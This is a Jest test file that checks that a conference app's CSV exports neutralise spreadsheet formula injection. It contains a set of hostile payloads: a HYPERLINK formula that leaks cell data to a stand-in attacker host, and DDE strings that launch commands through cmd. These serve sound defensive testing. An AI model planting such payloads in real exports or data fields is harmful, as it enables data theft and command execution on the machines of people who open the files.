import { parse } from 'csv-parse/sync';
import { createTestApp, TestApp } from './support/app';
import { auth } from './support/conference-fixtures';
import { createPerson, createUnit } from './support/directory';
import { answerTokenOf, deliver, invitationsPath, invitationWorld, invite, sendAll, to } from './support/invitations';

/**
 * CSV exports are safe to open in Excel: hostile data in every column a person can write — through
 * the API, the public answer page, or by SQL as older data — comes out with formula cells
 * neutralised (a leading '), in every export Convene has (grep text/csv: units, people, invitations).
 */

// What a spreadsheet evaluates (OWASP "CSV injection"): = + - @, and tab or CR before them.
const FORMULA_START = /^[=+\-@\t\r]/;
const PAYLOADS = {
  equals: '=HYPERLINK("http://attacker.test/?leak="&A1,"Bấm vào đây")',
  plus: "+SUM(1;2)*cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C notepad'!A0",
  at: '@SUM(A1:A9)',
  tab: '\t=1+1',
  cr: '\r=1+1',
};

function download(t: TestApp, path: string, token: string) {
  return t
    .http()
    .get(path)
    .set(auth(token))
    .buffer(true)
    .parse((res, cb) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => cb(null, Buffer.concat(chunks)));
    });
}

/** The file as Excel reads it: BOM dropped, split on the delimiter, quotes honoured. */
async function exported(t: TestApp, path: string, token: string, delimiter = ','): Promise<string[][]> {
  const res = await download(t, path, token);
  expect(res.status).toBe(200);
  expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
  const text = (res.body as Buffer).toString('utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  const rows: string[][] = parse(text.slice(1), { delimiter, relax_column_count: false });
  return rows;
}

/** Every cell that Excel would run as a formula. */
const formulaCells = (rows: string[][]) =>
  rows.flatMap((row, r) => row.map((cell, c) => ({ r, c, cell })).filter(({ cell }) => FORMULA_START.test(cell)));

/** The cell written for a hostile value: the value itself after one leading quote. */
const neutralised = (value: string) => `'${value}`;

describe('Hardening: CSV exports are safe to open in Excel', () => {
  let t: TestApp;
  let admin: string;
  beforeAll(async () => {
    t = await createTestApp();
    admin = await t.adminToken();
  });
  afterAll(() => t.close());

  it('the checks see a formula cell (a file made by hand)', async () => {
    const rows: string[][] = parse('a,b\r\nx,"=1+1"\r\n"@A1",-2\r\n');
    expect(formulaCells(rows)).toEqual([
      { r: 1, c: 1, cell: '=1+1' },
      { r: 2, c: 0, cell: '@A1' },
      { r: 2, c: 1, cell: '-2' },
    ]);
  });

  describe('units and people', () => {
    beforeAll(async () => {
      const root = await createUnit(t, admin, {
        name: PAYLOADS.equals,
        shortName: PAYLOADS.plus,
        kind: 'provincial_committee',
        externalCode: 'HCSV',
      });
      await createUnit(t, admin, {
        name: PAYLOADS.minus,
        shortName: PAYLOADS.at,
        kind: 'department',
        parentId: root.id,
        externalCode: 'HCSV.S1',
      });
      // The API trims and refuses control characters and codes that start with a symbol; older data may hold them.
      await t.dataSource.query(
        `INSERT INTO unit (name, short_name, kind, parent_id, external_code, search_key) VALUES ($1, $2, 'department', $3, '@HCSV.OLD', 'old'), ($4, NULL, 'other', $3, '-HCSV.OLD2', 'old2')`,
        [PAYLOADS.tab, PAYLOADS.cr, root.id, PAYLOADS.at],
      );
      await createPerson(t, admin, {
        fullName: PAYLOADS.equals,
        email: '=cmd@convene.test',
        positions: [{ unitId: root.id, role: 'head', title: PAYLOADS.at }],
      });
      await createPerson(t, admin, {
        fullName: PAYLOADS.minus,
        email: '+1@convene.test',
        positions: [{ unitId: root.id, role: 'member', title: PAYLOADS.plus }],
      });
      await t
        .http()
        .patch(`/people/${(await t.dataSource.query(`SELECT id FROM person WHERE email = '+1@convene.test'`))[0].id}`)
        .set(auth(admin))
        .send({ phone: '+84 935 000 111' })
        .expect(200);
      const [old] = await t.dataSource.query(
        `INSERT INTO person (full_name, email, search_key) VALUES ($1, '@old@convene.test', 'old') RETURNING id`,
        [PAYLOADS.tab],
      );
      await t.dataSource.query(
        `INSERT INTO person_position (person_id, unit_id, role, title) VALUES ($1, $2, 'specialist', $3)`,
        [old.id, root.id, PAYLOADS.cr],
      );
    });

    for (const delimiter of ['comma', 'semicolon'] as const) {
      it(`neutralises every formula cell of the units export (${delimiter})`, async () => {
        const rows = await exported(
          t,
          `/units/export.csv?delimiter=${delimiter}`,
          admin,
          delimiter === 'comma' ? ',' : ';',
        );
        expect(rows[0]).toEqual(['external_code', 'name', 'short_name', 'kind', 'parent_code', 'active']);
        expect(formulaCells(rows)).toEqual([]);
        const byCode = new Map(rows.map((r) => [r[0], r]));
        expect(byCode.get('HCSV')!.slice(1, 3)).toEqual([neutralised(PAYLOADS.equals), neutralised(PAYLOADS.plus)]);
        expect(byCode.get('HCSV.S1')!.slice(1, 3)).toEqual([neutralised(PAYLOADS.minus), neutralised(PAYLOADS.at)]);
        expect(byCode.get("'@HCSV.OLD")!.slice(1, 5)).toEqual([
          neutralised(PAYLOADS.tab),
          neutralised(PAYLOADS.cr),
          'department',
          'HCSV',
        ]);
        expect(byCode.get("'-HCSV.OLD2")!.slice(1, 3)).toEqual([neutralised(PAYLOADS.at), '']);
      });

      it(`neutralises every formula cell of the people export (${delimiter})`, async () => {
        const rows = await exported(
          t,
          `/people/export.csv?delimiter=${delimiter}`,
          admin,
          delimiter === 'comma' ? ',' : ';',
        );
        expect(rows[0]).toEqual(['email', 'full_name', 'phone', 'language', 'unit_code', 'role', 'title', 'active']);
        expect(formulaCells(rows)).toEqual([]);
        const byEmail = new Map(rows.map((r) => [r[0], r]));
        expect(byEmail.get("'=cmd@convene.test")).toEqual([
          "'=cmd@convene.test",
          neutralised(PAYLOADS.equals),
          '',
          'vi',
          'HCSV',
          'head',
          neutralised(PAYLOADS.at),
          'true',
        ]);
        expect(byEmail.get("'+1@convene.test")).toEqual([
          "'+1@convene.test",
          neutralised(PAYLOADS.minus),
          "'+84 935 000 111",
          'vi',
          'HCSV',
          'member',
          neutralised(PAYLOADS.plus),
          'true',
        ]);
        expect(byEmail.get("'@old@convene.test")!.slice(1, 7)).toEqual([
          neutralised(PAYLOADS.tab),
          '',
          'vi',
          'HCSV',
          'specialist',
          neutralised(PAYLOADS.cr),
        ]);
      });
    }
  });

  describe('invitations', () => {
    it('neutralises what organizers and delegates wrote: site, name, position, the name substituted for', async () => {
      const world = await invitationWorld(t, [
        { key: 'a', name: PAYLOADS.minus, at: 0, title: PAYLOADS.at },
        { key: 'b', name: 'Nguyễn Văn Bình', at: 1 },
      ]);
      await t
        .http()
        .patch(`/conferences/${world.conference.id}/bridge-points/${world.points[0].id}`)
        .set(auth(world.token))
        .send({ name: PAYLOADS.equals })
        .expect(200);
      await invite(t, world, 'a', world.points[0].id);
      await invite(t, world, 'b', world.points[1].id);
      await sendAll(t, world);
      const messages = await deliver(t);
      // A delegate, on the public answer page, names a substitute: the least trusted text in the file.
      const token = answerTokenOf(to(messages, world.people.a.email)[0]);
      await t
        .http()
        .post(`/invitations/answer/${token}`)
        .type('form')
        .send({
          answer: 'substitute',
          substituteName: PAYLOADS.plus,
          substitutePosition: PAYLOADS.at,
          substituteEmail: `thay.${process.pid}@convene.test`,
        })
        .expect(200);
      await t.dataSource.query(`UPDATE person SET full_name = $2 WHERE id = $1`, [world.people.b.id, PAYLOADS.tab]);

      for (const [lang, delimiter] of [
        ['vi', 'comma'],
        ['en', 'semicolon'],
      ] as const) {
        const rows = await exported(
          t,
          `${invitationsPath(world)}/export.csv?lang=${lang}&delimiter=${delimiter}`,
          world.token,
          delimiter === 'comma' ? ',' : ';',
        );
        expect(rows).toHaveLength(4);
        expect(formulaCells(rows)).toEqual([]);
        const byName = new Map(rows.slice(1).map((r) => [r[1], r]));
        expect(byName.get(neutralised(PAYLOADS.minus))!.slice(0, 3)).toEqual([
          neutralised(PAYLOADS.equals),
          neutralised(PAYLOADS.minus),
          neutralised(PAYLOADS.at),
        ]);
        const substitute = byName.get(neutralised(PAYLOADS.plus))!;
        expect([substitute[0], substitute[2], substitute[7]]).toEqual([
          neutralised(PAYLOADS.equals),
          neutralised(PAYLOADS.at),
          neutralised(PAYLOADS.minus),
        ]);
        expect(byName.get(neutralised(PAYLOADS.tab))).toBeDefined();
      }
    });
  });
});
